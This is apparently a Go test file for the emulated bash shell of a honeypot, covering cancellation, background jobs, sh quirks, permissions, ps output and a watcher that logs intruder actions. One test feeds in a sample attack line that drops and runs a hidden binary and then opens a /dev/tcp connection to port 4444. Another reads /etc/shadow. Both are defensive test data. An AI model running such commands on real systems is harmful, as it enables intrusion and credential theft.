package shell

import (
	"bytes"
	"context"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"honeyguide/internal/deception/vfs"
)

// A recorder is a Watcher that remembers.
type recorder struct {
	commands, downloads, executed []string
}

func (r *recorder) Download(url, tool, dest string) {
	r.downloads = append(r.downloads, tool+" "+url+" "+dest)
}
func (r *recorder) Unsupported(string)               {}
func (r *recorder) Starting(string)                  {}
func (r *recorder) Auth(kind, user, pass string)     {}
func (r *recorder) Command(line string, status int)  { r.commands = append(r.commands, line) }
func (r *recorder) Executed(path string, status int) { r.executed = append(r.executed, path) }

// stuck is an input nobody ever writes to.
type stuck struct{ end chan struct{} }

func (s stuck) Read([]byte) (int, error) {
	<-s.end
	return 0, io.EOF
}

// TestContext ends sessions that wait for input, for time or for nothing.
func TestContext(t *testing.T) {
	for _, line := range []string{"cat", "sleep 1000", "while :; do sleep 1; done", "read x", "cat | cat | cat", "while :; do :; done", "sleep 100 & wait", "x=$(cat)", "yes | cat > /dev/null"} {
		ctx, cancel := context.WithCancel(t.Context())
		s := newTestShell(t, Budget{Steps: 1 << 40})
		s.hooks.after = timer
		s.hooks.now = time.Now
		in := stuck{make(chan struct{})}
		done := make(chan int)
		go func() { done <- s.Exec(ctx, line, in, io.Discard, io.Discard) }()
		time.AfterFunc(20*time.Millisecond, cancel)
		select {
		case rc := <-done:
			if rc != 129 {
				t.Errorf("%q ended with %d", line, rc)
			}
		case <-time.After(10 * time.Second):
			t.Fatalf("%q goes on after the end of its context", line)
		}
		close(in.end)
	}
}

func TestBackground(t *testing.T) {
	for in, want := range map[string]string{
		"echo a & echo b; wait":                               "b\na\n",
		"uname & nproc | head -1 >/dev/null":                  "Linux\n",
		"(sleep 2; echo late) & (sleep 1; echo early) & wait": "early\nlate\n",
		"sleep 5 & kill $!; wait $!; echo $?":                 "143\n",
		"{ sleep 1; echo x; } & wait -n; echo $?":             "x\n0\n",
	} {
		out, errw, _ := execCase(t, in)
		if out != want {
			t.Errorf("%q: %q %q, want %q", in, out, errw, want)
		}
	}
}

func TestWatcher(t *testing.T) {
	s := newTestShell(t, Budget{})
	r := &recorder{}
	s.opt.Watch = r
	var errw bytes.Buffer
	elf := `printf '\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0' > /tmp/.x; chmod +x /tmp/.x; /tmp/.x; exec 3<>/dev/tcp/192.0.2.7/4444`
	s.Exec(t.Context(), elf, strings.NewReader(""), io.Discard, &errw)
	if !slices.Equal(r.commands, []string{elf}) || !slices.Equal(r.executed, []string{"/tmp/.x"}) {
		t.Errorf("commands %q executed %q", r.commands, r.executed)
	}
	if !slices.Contains(r.downloads, "bash tcp://192.0.2.7:4444 /dev/tcp/192.0.2.7/4444") {
		t.Errorf("downloads %q", r.downloads)
	}
	if !strings.Contains(errw.String(), "bash: connect: Connection refused\nbash: line 1: /dev/tcp/192.0.2.7/4444: Connection refused\n") {
		t.Errorf("stderr %q", errw.String())
	}
}

// TestSharedFiles checks that two shells on one file system see each other's
// files and that a fresh one does not.
func TestSharedFiles(t *testing.T) {
	a := newTestShell(t, Budget{})
	b := New(a.opt)
	var out bytes.Buffer
	a.Exec(t.Context(), "echo hello > /tmp/f; cd /tmp; x=1", nil, io.Discard, io.Discard)
	b.Exec(t.Context(), "cat /tmp/f; pwd; echo [$x]", nil, &out, &out)
	if out.String() != "hello\n/root\n[]\n" {
		t.Errorf("%q", out.String())
	}
	got, _, _ := execCase(t, "cat /tmp/f 2>&1")
	if !strings.Contains(got, "No such file") {
		t.Errorf("a stranger sees %q", got)
	}
}

// TestDash checks sh, which is not bash.
func TestDash(t *testing.T) {
	for in, want := range map[string]string{
		`sh -c 'echo "a\tb"; [[ a ]]; echo $?' 2>&1`:     "a\tb\nsh: 1: [[: not found\n127\n",
		`sh -c 'cd /nope; echo $?' 2>&1`:                 "sh: 1: cd: can't cd to /nope\n2\n",
		`sh -c 'if then' 2>&1; echo $?`:                  "sh: 1: Syntax error: \"then\" unexpected\n2\n",
		`sh -c 'echo "a' 2>&1; echo $?`:                  "sh: 1: Syntax error: Unterminated quoted string\n2\n",
		`printf 'echo 1\nfoo\n' | sh 2>&1`:               "1\nsh: 2: foo: not found\n",
		`sh /nope 2>&1; echo $?`:                         "sh: 0: cannot open /nope: No such file\n2\n",
		`busybox sh -c 'foo; echo $0' 2>&1`:              "sh: foo: not found\nsh\n",
		`echo hi | sh -c 'read x; echo $x'`:              "hi\n",
		`sh -c 'echo $1' a b; bash -s x y <<< 'echo $2'`: "b\ny\n",
	} {
		out, _, _ := execCase(t, in)
		if out != want {
			t.Errorf("%q: %q, want %q", in, out, want)
		}
	}
}

// TestUnprivileged checks that an ordinary user is one.
func TestUnprivileged(t *testing.T) {
	s := newTestShell(t, Budget{})
	s.opt.User, s.opt.Cred = "nobody", vfs.Cred{UID: 65534, GID: 65534}
	var out bytes.Buffer
	s.Exec(t.Context(), "echo x > /etc/f; cat /etc/shadow; cd /root; echo $UID", nil, &out, &out)
	want := "bash: line 1: /etc/f: Permission denied\ncat: /etc/shadow: Permission denied\nbash: line 1: cd: /root: Permission denied\n65534\n"
	if out.String() != want {
		t.Errorf("%q, want %q", out.String(), want)
	}
}

func TestResize(t *testing.T) {
	s := New(Options{Cols: 100, Rows: 30})
	s.Resize(132, 50)
	if s.cols() != 132 || s.rows() != 50 {
		t.Errorf("%dx%d", s.cols(), s.rows())
	}
	s.Resize(-1, 1<<30)
	if s.cols() != 80 || s.rows() != 24 {
		t.Errorf("%dx%d", s.cols(), s.rows())
	}
}

// TestProcesses checks that ps tells of the processes a real bash would have.
func TestProcesses(t *testing.T) {
	for in, want := range map[string]string{
		`ps -e -o args= | grep -c '^bash$'`:        "0\n",
		`ps -e -o args= | tail -2`:                 "ps -e -o args=\ntail -2\n",
		`ps -e -o args= | tail -1; true`:           "tail -1\n",
		`ps -e -o args= | tail -3 | head -1; true`: "ps -e -o args=\n",
	} {
		out, errw, _ := execCase(t, in)
		if out != want {
			t.Errorf("%q: %q %q, want %q", in, out, errw, want)
		}
	}
}
